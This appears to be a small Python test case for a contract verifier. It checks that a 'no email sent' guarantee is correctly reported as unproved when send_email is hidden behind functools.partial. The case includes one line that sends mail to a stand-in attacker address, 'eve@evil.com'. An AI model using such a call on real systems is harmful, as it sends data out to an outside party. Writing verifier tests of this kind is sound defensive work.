# not proved: a bound call
import functools
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    f = functools.partial(send_email, "eve@evil.com")
    f("x")
